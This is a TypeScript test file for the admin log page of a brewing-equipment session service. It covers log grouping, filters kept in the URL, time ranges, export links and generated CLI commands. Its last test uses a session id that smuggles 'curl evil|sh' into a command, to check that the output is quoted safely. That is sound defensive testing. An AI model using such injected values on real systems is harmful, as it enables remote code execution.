import assert from 'node:assert/strict';
import { compact } from '../../../adapters/web/admin/log/compact.js';
import { addressOf, filterOf, toggled } from '../../../adapters/web/admin/log/logFilter.js';
import { commandOf, fileOf } from '../../../adapters/web/admin/log/logLinks.js';
import { newsOf } from '../../../adapters/web/admin/log/newsOf.js';
import { partsShown, rangeOf } from '../../../adapters/web/admin/log/range.js';
import type { LogKind, LogLine } from '../../../domain/sessionLog/index.js';

const line = (id: string, kind: LogKind, type: string, data: object = {}): LogLine => ({
  ...{ id, kind, type, receivedAt: '2026-11-22T03:12:00.000Z', deviceTime: null, scope: 'session' },
  ...{
    deviceId: 'keg-1',
    sessionId: 'keg-1.7',
    epoch: 0,
    boot: 1,
    seq: 1,
    text: type,
    by: null,
    traceId: null,
  },
  data: { ...data },
});

const open = { from: undefined, to: undefined, order: 'oldest' } as const;

describe('the page of a session’s log', () => {
  it('shows a command with its steps and a run of readings as one row each, and commands without an outcome on top', () => {
    const lines = [
      line('r1', 'reading', 'Reading'),
      line('r2', 'reading', 'Reading'),
      line('a1', 'command', 'CommandRequested', { commandId: 'a' }),
      line('b1', 'command', 'CommandRequested', { commandId: 'b' }),
      line('r3', 'reading', 'Reading'),
      line('a2', 'command', 'CommandDone', { commandId: 'a' }),
      line('e', 'event', 'PhaseEntered'),
    ];
    const groups = compact(lines, { order: 'oldest', hasNewest: true });
    assert.deepEqual(
      groups.map(({ lines }) => lines.map(({ id }) => id).join()),
      ['b1', 'r1,r2', 'a1,a2', 'r3', 'e'],
    );
    // Turned round, the lines of a row still tell it from its beginning.
    const fromEnd = compact(lines.toReversed(), { order: 'newest', hasNewest: true });
    assert.deepEqual(
      fromEnd.map((group) => group.lines.map(({ id }) => id).join()),
      ['b1', 'e', 'a1,a2', 'r3', 'r1,r2'],
    );
    // While more lines follow, nobody knows which commands have no outcome: rows stay where they are.
    const begun = compact(lines.slice(0, 4), { order: 'oldest', hasNewest: false });
    assert.deepEqual(
      begun.map((group) => group.lines.map(({ id }) => id).join()),
      ['r1,r2', 'a1', 'b1'],
    );
  });

  it('has its filter in its address', () => {
    const filter = { kinds: toggled(toggled([], 'error'), 'alarm'), view: 'raw', order: 'newest' } as const;
    const address = addressOf('/admin/sessions/keg-1.7', filter);
    const query = Object.fromEntries(new URL(address, 'http://x').searchParams);
    assert.deepEqual(filterOf(query), { ...open, kinds: ['alarm', 'error'], view: 'raw', order: 'newest' });
    assert.equal(addressOf('/a', { ...open, kinds: toggled(['error'], 'error'), view: 'compact' }), '/a');
    assert.deepEqual(filterOf({ kinds: 'what', view: 'else', from: 'then' }), {
      ...{ ...open, kinds: [], view: 'compact' },
    });
  });

  it('shows the range of the minimap in its address, in the file and in the command; ends of the log stay open', () => {
    const summary = {
      ...{ counts: { event: 2 }, from: '2026-11-22T03:00:00.000Z', to: '2026-11-22T05:00:00.000Z' },
      parts: Array.from({ length: 120 }, () => ({})),
    };
    assert.deepEqual(partsShown(summary, open), { first: 0, last: 120 });
    assert.deepEqual(rangeOf(summary, { first: 0, last: 120 }), { from: undefined, to: undefined });
    for (const range of [
      { first: 12, last: 13 },
      { first: 0, last: 1 },
      { first: 119, last: 120 },
    ])
      assert.deepEqual(partsShown(summary, rangeOf(summary, range)), range);
    const range = rangeOf(summary, { first: 12, last: 120 });
    assert.deepEqual(range, { from: '2026-11-22T03:12:00.000Z', to: undefined });
    const filter = { kinds: ['error'], view: 'compact', order: 'oldest', ...range } as const;
    const query = Object.fromEntries(new URL(addressOf('/a', filter), 'http://x').searchParams);
    assert.deepEqual(filterOf(query), filter);
    const of = { of: 'sessions', id: 'keg-1.7' } as const;
    assert.equal(
      fileOf(of, filter, 'csv'),
      '/api/v1/sessions/keg-1.7/log?format=csv&kind=error&since=2026-11-22T03%3A12%3A00.000Z',
    );
    assert.equal(
      commandOf(of, filter),
      'brewline session log keg-1.7 --kind error --since 2026-11-22T03:12:00.000Z',
    );
    const fromEnd = { ...open, kinds: [], order: 'newest' } as const;
    assert.equal(commandOf(of, fromEnd), 'brewline session log keg-1.7 --newest');
    assert.equal(fileOf(of, fromEnd, 'ndjson'), '/api/v1/sessions/keg-1.7/log?format=ndjson&order=newest');
  });

  it('finds what came behind a page of what is known, and asks no further than needed', async () => {
    const pages: Record<string, string[]> = { first: ['a', 'b'], second: ['b', 'c'], third: ['d'] };
    const next: Record<string, string | null> = { first: 'second', second: 'third', third: null };
    const asked: (string | null)[] = [];
    const ask = async (after: string | null) => {
      asked.push(after);
      const page = after ?? 'first';
      return { items: pages[page]!.map((id) => ({ id })), next: next[page]! };
    };
    assert.deepEqual(await newsOf(ask, new Set(['a', 'b'])), [{ id: 'c' }]);
    assert.deepEqual(asked, [null, 'second']);
    assert.deepEqual(await newsOf(ask, new Set(['a', 'b', 'c', 'd'])), []);
  });

  it('gives a command that is safe to paste, whatever its address says', () => {
    const log = { of: 'sessions', id: 'keg-1.7;curl evil|sh' } as const;
    const filter = { kinds: [], from: undefined, to: undefined, order: 'oldest' } as const;
    assert.equal(commandOf(log, filter), "brewline session log 'keg-1.7;curl evil|sh'");
  });
});
